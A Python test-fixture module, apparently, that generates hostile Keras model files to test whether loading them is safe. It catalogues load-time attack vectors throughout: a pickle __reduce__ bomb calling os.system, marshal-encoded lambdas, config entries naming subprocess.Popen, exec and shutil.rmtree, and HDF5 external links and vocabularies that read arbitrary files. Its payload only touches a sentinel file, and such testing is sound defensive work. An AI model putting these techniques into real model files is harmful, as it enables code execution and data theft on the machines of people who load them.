"""Model files that try to do harm when they are loaded: to run a command, or to read a file."""

from __future__ import annotations

import base64
import copy
import dataclasses
import io
import json
import marshal
import pickle
import random
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np

Json = dict[str, Any]
Change = Callable[[Json], None]


@dataclasses.dataclass(frozen=True)
class Aim:
    """What a hostile file is after.

    `sentinel` is a file that must not come to be, `bait` one that must not be read, `victim` a folder that
    must not go.
    """

    sentinel: Path
    bait: Path
    victim: Path

    @property
    def command(self) -> str:
        return f"touch {self.sentinel}"

    @property
    def python(self) -> str:
        return f"__import__('os').system({self.command!r})"

    @property
    def code(self) -> str:
        return base64.b64encode(marshal.dumps(compile(self.python, "<lambda>", "eval"))).decode()


# Functions that run commands, open files, fetch them or load code, from everywhere that a file may name, and
# what they are called with.
FUNCTIONS: dict[tuple[str | None, str], Callable[[Aim], list[Any]]] = {
    ("os", "system"): lambda aim: [aim.command],
    ("posix", "system"): lambda aim: [aim.command],
    ("subprocess", "getoutput"): lambda aim: [aim.command],
    ("subprocess", "call"): lambda aim: [["touch", str(aim.sentinel)]],
    ("builtins", "exec"): lambda aim: [aim.python],
    ("builtins", "eval"): lambda aim: [aim.python],
    ("builtins", "open"): lambda aim: [str(aim.sentinel), "w"],
    ("builtins", "__import__"): lambda aim: ["antigravity"],
    ("builtins", "deserialize"): lambda aim: [function("os", "system")],
    ("runpy", "run_path"): lambda aim: [str(aim.bait)],
    ("shutil", "rmtree"): lambda aim: [str(aim.victim)],
    ("pickle", "loads"): lambda aim: [{"class_name": "__bytes__", "config": {"value": "cos\nsystem\n"}}],
    ("importlib", "import_module"): lambda aim: ["antigravity"],
    ("numpy", "fromfile"): lambda aim: [str(aim.bait)],
    ("keras.utils", "get_file"): lambda aim: [str(aim.sentinel), f"file://{aim.bait}"],
    ("keras.models", "load_model"): lambda aim: [str(aim.bait)],
    ("keras.config", "enable_unsafe_deserialization"): lambda aim: [],
    ("keras.layers", "deserialize"): lambda aim: [function("os", "system")],
    ("keras.utils", "set_random_seed"): lambda aim: [1],
    ("keras.src.utils.python_utils", "func_load"): lambda aim: [aim.code],
    ("keras.src.saving.serialization_lib", "enable_unsafe_deserialization"): lambda aim: [],
    ("tensorflow.io", "read_file"): lambda aim: [str(aim.bait)],
    (None, "os.system"): lambda aim: [aim.command],
}
PLACES = ("activation", "initializer", "lambda", "compile", "build", "wrapped", "nested")


class _Bomb:
    """Unpickled, it runs a command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        import os

        return os.system, (self.command,)


def write_hostile_files(folder: Path, aim: Aim, count: int, seed: int) -> list[Path]:
    """Write `count` files with hostile configs into `folder`, in both formats, and the hostile containers."""
    parts = [(function(*name), arguments(aim)) for name, arguments in FUNCTIONS.items()]
    elsewhere = [put(where, *part) for part in parts for where in PLACES]
    random.Random(seed).shuffle(elsewhere)
    special = special_configs(aim)
    changes = [*special, *special, *(put("layer", *part) for part in parts), *elsewhere][:count]
    files = []
    for number, change in enumerate(changes):
        first_time = number < len(special)
        ending = ".keras" if first_time or (number >= 2 * len(special) and number % 2) else ".h5"
        files.append(folder / f"{number:03}{ending}")
        write(files[-1], change)
    for name, writer in CONTAINERS.items():
        files.append(folder / name)
        writer(files[-1], aim)
    return files


def function(module: str | None, name: str) -> Json:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def layer(class_name: str, module: str | None = "keras.layers", /, **config: Any) -> Json:
    node = {"class_name": class_name, "config": {"name": "fc", **config}}
    # The old format names no modules.
    return {**node, "module": module, "registered_name": None} if module else node


def special_configs(aim: Aim) -> list[Change]:
    """Return changes of a model's config for every way in that is no plain function."""
    code, bait = aim.code, str(aim.bait)
    dumped = base64.b64encode(pickle.dumps(_Bomb(aim.command))).decode()
    as_bytes = {"class_name": "__bytes__", "config": {"value": bait}}
    typespec = {"class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess"}
    by_name = {"function": "system", "module": "os", "function_type": "function"}
    as_layers = [
        layer("Lambda", function={"class_name": "__lambda__", "config": {"code": code}}),
        layer("Lambda", function={"class_name": "__lambda__", "config": {"value": code}}),
        layer("Lambda", None, function=[code, None, None], function_type="lambda"),
        layer("Lambda", None, **by_name),
        layer("TFSMLayer", filepath=str(aim.bait.parent)),
        layer("TorchModuleWrapper", module=dumped),
        layer("StringLookup", vocabulary=bait),
        layer("IntegerLookup", vocabulary=bait),
        layer("TextVectorization", vocabulary=bait, standardize=None, split=None),
        layer("StringLookup", vocabulary=as_bytes),
        layer("Popen", "subprocess", args=aim.command, shell=True),
        layer("deserialize", None, config=function("os", "system")),
        layer("CSVLogger", "keras.callbacks", filename=str(aim.sentinel)),
        # A registered name with another class, module or function than that name's.
        {**layer("deserialize", None, config={}), "registered_name": "kerasviz>NamedDense"},
        {**layer("anything", "os"), "registered_name": "system"},
        {"class_name": ["os", "system"], "config": {"name": "fc"}, "module": "os"},
    ]
    changes = [put("layer", part) for part in as_layers]
    changes.append(put("layer", {**function("os", "system"), "registered_name": "relu"}, [aim.command]))
    changes.append(put("build", {**typespec, "registered_name": None, "config": [aim.command]}))
    spec = {"class_name": "TypeSpec", "type_spec": "os.system", "serialized": [aim.command]}
    changes.append(put("build", spec))
    return changes


def put(where: str, part: Json, arguments: list[Any] | None = None) -> Change:
    """Return a change that puts `part` into a model's config, in a layer's place called with `arguments`."""

    def as_layer(old: Json) -> Json:
        call = [{"args": arguments, "kwargs": {}}] if arguments is not None else old["inbound_nodes"]
        return {**part, "name": "fc", "inbound_nodes": call}

    def change(config: Json) -> None:
        layers = config["config"]["layers"]
        dense = layers[1]["config"]
        if where == "layer":
            layers[1] = as_layer(layers[1])
        elif where == "activation":
            dense["activation"] = part
        elif where == "initializer":
            dense["kernel_initializer"] = part
        elif where == "lambda":
            layers[1] = {**layers[1], **layer("Lambda", function=part)}
        elif where == "compile":
            config["compile_config"] = {"optimizer": "adam", "loss": part, "loss_weights": None}
        elif where == "build":
            layers[1]["build_config"] = {"input_shape": part}
        elif where == "wrapped":
            layers[1] = {**layers[1], **layer("TimeDistributed", layer=part)}
        else:
            inner = copy.deepcopy(config)
            inner["config"]["layers"][1] = as_layer(layers[1])
            layers[1] = {**layers[1], **inner}

    return change


def benign() -> keras.Model:
    inputs = keras.Input((3,))
    return keras.Model(inputs, keras.layers.Dense(2, name="fc")(inputs))


def write(path: Path, change: Change) -> None:
    """Save a harmless model as `path`, and then change its config."""
    model = benign()
    config = json.loads(model.to_json())
    if path.suffix == ".h5":
        model.save(path)
        with h5py.File(path, "r+") as file:
            change(config)
            compiled = config.pop("compile_config", {})
            file.attrs["model_config"] = json.dumps(config)
            if compiled.get("loss"):
                file.attrs["training_config"] = json.dumps(
                    {**compiled, "optimizer_config": {"class_name": "Adam", "config": {}}}
                )
        return
    change(config)
    rewrite(path, {"config.json": json.dumps(config)})


def rewrite(path: Path, members: dict[str, str | bytes], without: str = "") -> None:
    """Save a harmless model as `path` with other `members` in it."""
    whole = path.with_name(f"whole-{path.name}")
    benign().save(whole)
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            if name not in members and name != without:
                target.writestr(name, source.read(name))
        for name, content in members.items():
            target.writestr(name, content)
    whole.unlink()


def _pickled_weights(path: Path, aim: Aim) -> None:
    buffer = io.BytesIO()
    np.savez(buffer, __root__=np.array(_Bomb(aim.command), dtype=object), allow_pickle=True)
    rewrite(path, {"model.weights.npz": buffer.getvalue()}, without="model.weights.h5")


def with_other_weights(path: Path, change: Callable[[h5py.File], None]) -> None:
    """Save a harmless model as `path` and change its weights."""
    if path.suffix == ".h5":
        benign().save(path)
        with h5py.File(path, "r+") as file:
            change(file)
        return
    weights = path.with_suffix(".weights.h5")
    benign().save_weights(weights)
    with h5py.File(weights, "r+") as file:
        change(file)
    rewrite(path, {"model.weights.h5": weights.read_bytes()})
    weights.unlink()


def _weights_elsewhere(kind: str) -> Callable[[Path, Aim], None]:
    def write_file(path: Path, aim: Aim) -> None:
        def replace(file: h5py.File) -> None:
            names: list[str] = []
            file.visititems(lambda name, part: names.append(name) if hasattr(part, "shape") else None)
            kernel = next(name for name in names if file[name].shape == (3, 2))
            del file[kernel]
            if kind == "link":
                file[kernel] = h5py.ExternalLink(str(aim.bait), "/")
            elif kind == "external":
                file.create_dataset(kernel, (3, 2), "float32", external=[(str(aim.bait), 0, 24)])
            else:
                layout = h5py.VirtualLayout((3, 2), "float32")
                layout[:] = h5py.VirtualSource(str(aim.bait), "data", (3, 2))
                file.create_virtual_dataset(kernel, layout)

        with_other_weights(path, replace)

    return write_file


CONTAINERS: dict[str, Callable[[Path, Aim], None]] = {
    "pickled.keras": _pickled_weights,
    **{
        f"{kind}.{ending}": _weights_elsewhere(kind)
        for kind in ("link", "external", "virtual")
        for ending in ("keras", "h5")
    },
}
